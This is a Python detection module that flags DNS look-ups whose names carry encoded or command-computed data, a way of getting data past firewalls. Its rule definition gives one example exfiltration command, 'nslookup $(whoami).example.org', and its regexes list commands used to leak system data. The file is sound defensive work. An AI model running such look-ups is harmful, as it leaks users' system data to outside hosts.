"""Find look-ups of names whose labels carry data: a way past most firewalls."""

import re
from collections.abc import Iterator

from adapters.detectors.exfiltration.address import is_collector
from adapters.detectors.exfiltration.evidence import (
    ChannelRecogniser,
    channel_finding,
    channel_rule,
)
from adapters.detectors.exfiltration.payload import read
from adapters.detectors.linear_time import Pattern, Subject
from domain.detection.entropy import Alphabet, alphabet_of, randomness
from domain.detection.finding import Finding

_RULE = channel_rule(
    "dns-lookup-data",
    "DNS",
    "Name look-up that carries data",
    "nslookup, dig, host, ping, Resolve-DnsName or a resolver call with encoded or computed labels",
    source="https://attack.mitre.org/techniques/T1048/003/",
    examples=("nslookup $(whoami).example.org",),
    near_misses=("dig +short example.com", "nslookup mail.example.com"),
)
_COMPUTED = re.compile(
    r"\$\(|`(?:whoami|id|hostname|pwd|env|uname|cat|echo|base64|date|curl|[a-z]+ [^`]+)`|"
    r"\$\{?[A-Za-z_]"
    r"|\{[\w.\[\]'\"()]*\}|\+\s*[\"'A-Za-z_]|%[A-Z_]{3,}%"
)
_ORDINARY = re.compile(r"(?i)\.(?:in-addr|ip6)\.arpa\.?$|^_|(?:^|\.)_[a-z]|\._?domainkey\.|^xn--")
_DOMAIN_BEHIND = re.compile(r"[)`}'\"%\w]\.((?:[\w-]+\.)+[A-Za-z]{2,24})\b")
_TELLING_CALL = re.compile(r"(?i)encode|hex|b64|b32|base|environ|secret|data|cookie|passw")
_LEAST_LABEL = 14
_LEAST_HEX = 16
_LONG_LABEL = 28
_LIKELY = 0.6


class NameLookups(ChannelRecogniser):
    """Find look-up commands and calls with data in the name, and bare names with readable data."""

    gates = (
        r"(?i)\b(?:nslookup|dig|host|drill|ping|resolve-dnsname|gethostbyname|getaddrinfo|"
        r"dns\.(?:resolve|lookup)\w*|resolver|dnspython|test-connection)\b",
        r"[0-9A-Za-z_-]{16}\.[0-9A-Za-z-]+\.[a-z]",
    )
    rules = (_RULE,)

    def __init__(self) -> None:
        self._command = Pattern(
            r"(?i)(?:^|[\s`\"';|&(>#$*])((?:nslookup|dig|host|drill|ping6?|resolve-dnsname|"
            r"test-connection)(?:\.exe)?"
            r"(?:[ \t]+(?:[-+@][^\s]{1,60}|-[a-z]+[ \t]+[0-9]{1,4}|any|a|aaaa|txt|mx|cname|"
            r"ns))*[ \t]+[\"']?([^\s\"';|&()>$`]{0,80}(?:\$\([^)\n]{1,200}\)|`[^`\n]{1,200}`|"
            r"\$\{?[a-z_]\w*\}?)?[^\s\"';|&)>]{3,250}))"
        )
        self._call = Pattern(
            r"(?i)((?:gethostbyname|getaddrinfo|dns\.(?:promises\.)?(?:resolve|lookup)\w*|"
            r"resolver\.(?:resolve|query)|resolveaddr)\s?\(([^\n]{4,300})\))"
        )
        self._name = Pattern(
            r"\b((?:[0-9A-Za-z_-]{1,63}\.)*[0-9A-Za-z_-]{16,63}\.(?:[0-9A-Za-z-]{1,63}\.)"
            r"+[A-Za-z]{2,24})\b"
        )

    def scan(self, subject: Subject) -> Iterator[Finding]:
        """Yield commands and calls from their first to their last character."""
        for pattern, computed_counts in ((self._command, True), (self._call, False)):
            for match in pattern.finditer(subject):
                target = match.text(2).strip("\"' ")
                score, reason, decoding = self._target(target, computed_counts)
                if score > 0.0:
                    yield channel_finding(_RULE, *match.span(1), score, reason, decoding=decoding)
        for match in self._name.finditer(subject):
            name = match.text(1)
            if _ORDINARY.search(name):
                continue
            payload = next((p for p in map(read, name.split(".")[:-2]) if p and p.is_encoded), None)
            if payload is not None:
                score = 0.85 if payload.sensitive else 0.6
                yield channel_finding(
                    _RULE,
                    *match.span(1),
                    score,
                    "a name with a label that decodes to text",
                    decoding=payload.decoding,
                )

    def _target(self, target: str, is_command: bool) -> tuple[float, str, tuple[str, ...]]:
        nothing: tuple[float, str, tuple[str, ...]] = (0.0, "", ())
        if _COMPUTED.search(target):
            return self._computed(target, is_command)
        name = re.sub(r"^[a-z]+://", "", target).split("/")[0].rstrip(".,")
        if "." not in name or _ORDINARY.search(name):
            return nothing
        labels = [label for label in name.split(".")[:-1] if len(label) >= _LEAST_LABEL]
        for label in labels:
            payload = read(label)
            if payload is not None and payload.is_encoded:
                return (
                    0.95,
                    "a look-up of a name with a label that decodes to text",
                    payload.decoding,
                )
        coded = [label for label in labels if _is_coded(label)]
        if coded:
            more = (
                len(coded) > 1
                or is_collector(name)
                or any(len(label) > _LONG_LABEL for label in coded)
            )
            return (0.9 if more else 0.6), "a look-up of a name with an encoded label", ()
        return nothing

    def _computed(self, target: str, is_command: bool) -> tuple[float, str, tuple[str, ...]]:
        if _DOMAIN_BEHIND.search(target) is None:
            return 0.0, "", ()
        if not is_command and not _TELLING_CALL.search(target):
            return 0.3, "a look-up of a computed name", ()
        shell = "$(" in target or "`" in target
        return (0.93 if shell else 0.6), "a look-up of a name that a command computes", ()


def _is_coded(label: str) -> bool:
    if "-" in label and not label.replace("-", "").isalnum():
        return False
    alphabet = alphabet_of(label)
    if alphabet is Alphabet.HEX:
        return len(label) >= _LEAST_HEX
    return randomness(label) > _LIKELY and any(c.isdigit() for c in label)
